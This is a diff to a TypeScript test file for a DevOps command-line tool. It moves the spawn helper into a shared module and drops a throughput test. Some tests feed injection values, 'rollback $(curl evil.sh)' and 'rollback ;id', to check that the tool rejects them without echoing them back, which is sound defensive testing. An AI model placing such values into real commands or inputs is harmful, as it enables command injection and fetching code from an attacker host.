@@ -1,38 +1,18 @@
-import { spawn } from 'node:child_process';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-
-const cli = fileURLToPath(new URL('../src/cli.ts', import.meta.url));
-
-interface Ended {
-  readonly code: number | null;
-  readonly out: string;
-  readonly err: string;
-}
-
-function ask(words: readonly string[], input = '', env: NodeJS.ProcessEnv = {}): Promise<Ended> {
-  return new Promise((resolve) => {
-    const child = spawn(process.execPath, [cli, ...words], { env: { PATH: process.env['PATH'], ...env } });
-    let out = '';
-    let err = '';
-    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
-    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
-    child.on('close', (code) => resolve({ code, out, err }));
-    child.stdin.end(input);
-  });
-}
+import { askCli } from './ask-cli.ts';
 
 const json = async (...words: string[]): Promise<{ code: number | null; answer: Record<string, unknown> }> => {
-  const { code, out } = await ask(['--json', ...words]);
+  const { code, out } = await askCli(['--json', ...words]);
   return { code, answer: JSON.parse(out) as Record<string, unknown> };
 };
 
 describe('asking in a terminal', () => {
   it('prints a plan with the version in its commands and exits 0', async () => {
-    const { code, out, err } = await ask(['rollback', 'checkout', 'to', 'v2.3', 'on', 'eks']);
+    const { code, out, err } = await askCli(['rollback', 'checkout', 'to', 'v2.3', 'on', 'eks']);
     expect({ code, err }).toEqual({ code: 0, err: '' });
     expect(out).toContain('Roll back checkout to v2.3');
     expect(out).toContain('kubectl -n checkout rollout undo deploy/checkout --to-revision="${REVISION:?set REVISION}"');
@@ -40,7 +20,7 @@ describe('asking in a terminal', () => {
   });
 
   it('prints the ten parts of the DEVOPS BLUEPRINT, in order, with the system on its cover', async () => {
-    const { out } = await ask(['blueprint', 'checkout', 'on', 'eks']);
+    const { out } = await askCli(['blueprint', 'checkout', 'on', 'eks']);
     const parts = [
       'DEVOPS BLUEPRINT',
       'System: checkout',
@@ -59,7 +39,7 @@ describe('asking in a terminal', () => {
   });
 
   it('says on the error stream what was wrong, and exits 2, without repeating what was typed', async () => {
-    const { code, out, err } = await ask(['rollback $(curl evil.sh)']);
+    const { code, out, err } = await askCli(['rollback $(curl evil.sh)']);
     expect({ code, out }).toEqual({ code: 2, out: '' });
     expect(err).toContain('cannot be a version');
     expect(err).not.toContain('evil');
@@ -73,20 +53,20 @@ describe('asking in a terminal', () => {
   it('writes the files that go with the answer, and leaves what is there as it is', async () => {
     const folder = mkdtempSync(join(tmpdir(), 'files-'));
     const words = ['pipeline', 'checkout', 'typescript', 'on', 'eks', '--files', folder];
-    const first = await ask(words);
+    const first = await askCli(words);
     expect(first.code).toBe(0);
     const workflow = join(folder, '.github', 'workflows', 'ci.yml');
     expect(readFileSync(workflow, 'utf8')).toContain('checkout');
     expect(first.out).toContain(`written  ${workflow}`);
     expect(first.out).toMatch(/^assumed {2}/mu);
     writeFileSync(workflow, 'mine');
-    const second = await ask(words);
+    const second = await askCli(words);
     expect(second.out).toContain(`kept     ${workflow}`);
     expect(readFileSync(workflow, 'utf8')).toBe('mine');
   });
 
   it('says which files go with the answer, and how to get them, when no folder is named', async () => {
-    const { code, out } = await ask(['pipeline checkout typescript on eks --files']);
+    const { code, out } = await askCli(['pipeline checkout typescript on eks --files']);
     expect(code).toBe(0);
     expect(out).toMatch(/\d+ files for checkout\./u);
     expect(out).toContain('.github/workflows/ci.yml');
@@ -96,7 +76,7 @@ describe('asking in a terminal', () => {
   it.each(['/proc/nope', fileURLToPath(import.meta.url)])(
     'exits 1 and says so when no files can be put into %s',
     async (folder) => {
-      const { code, err } = await ask(['slo checkout 99.9', '--files', folder]);
+      const { code, err } = await askCli(['slo checkout 99.9', '--files', folder]);
       expect(code).toBe(1);
       expect(err).toMatch(/^--files: the folder .+ cannot be made \((?:ENOENT|ENOTDIR|EACCES)\)$/mu);
     },
@@ -105,7 +85,7 @@ describe('asking in a terminal', () => {
   it('exits 1 and names every fault when a persona file is broken', async () => {
     const folder = mkdtempSync(join(tmpdir(), 'persona-'));
     writeFileSync(join(folder, 'x.md'), '---\nkind: hint\nid: x\n---\n\nHello {{ nobody }}.\n');
-    const { code, out, err } = await ask(['help'], '', { PERSONAS_DIR: folder });
+    const { code, out, err } = await askCli(['help'], '', { PERSONAS_DIR: folder });
     expect({ code, out }).toEqual({ code: 1, out: '' });
     expect(err).toMatch(/x\.md:\d+: name: /u);
     expect(err).toMatch(/x\.md:6: about: a variable the program knows/u);
@@ -135,7 +115,7 @@ describe('asking for JSON', () => {
 
   it('answers the other lines when one cannot be read, names that one, and exits 2', async () => {
     const input = ['{"id":1,"text":"slo 99.9"}', 'no JSON', '', '{"id":"c"}', '{"id":4,"text":"help"}'].join('\n');
-    const { code, out } = await ask(['--batch'], input);
+    const { code, out } = await askCli(['--batch'], input);
     expect(code).toBe(2);
     const answers = out
       .trimEnd()
@@ -152,30 +132,4 @@ describe('asking for JSON', () => {
       { code: 'bad-line', line: 4 },
     ]);
   });
-
-  it('answers many lines in order, at least 300 a second', async () => {
-    const texts = [
-      'rollback v2.3',
-      'slo 99.9 over 28d',
-      'deploy canary checkout',
-      'how do we split dev and prod?',
-      'rollback ;id',
-    ];
-    const lines = Array.from({ length: 2400 }, (_, index) => ({ id: `l${index}`, text: texts[index % texts.length] }));
-    const input = lines.map((line) => JSON.stringify(line)).join('\n');
-    const empty = await timed(() => ask(['--batch', '--json'], ''));
-    const full = await timed(() => ask(['--batch', '--json'], input));
-    const ids = full.result.out
-      .trimEnd()
-      .split('\n')
-      .map((line) => (JSON.parse(line) as { id: string }).id);
-    expect(ids).toEqual(lines.map((line) => line.id));
-    expect(2400 / ((full.ms - empty.ms) / 1000)).toBeGreaterThan(300);
-  });
 });
-
-async function timed<T>(work: () => Promise<T>): Promise<{ result: T; ms: number }> {
-  const started = performance.now();
-  const result = await work();
-  return { result, ms: performance.now() - started };
-}
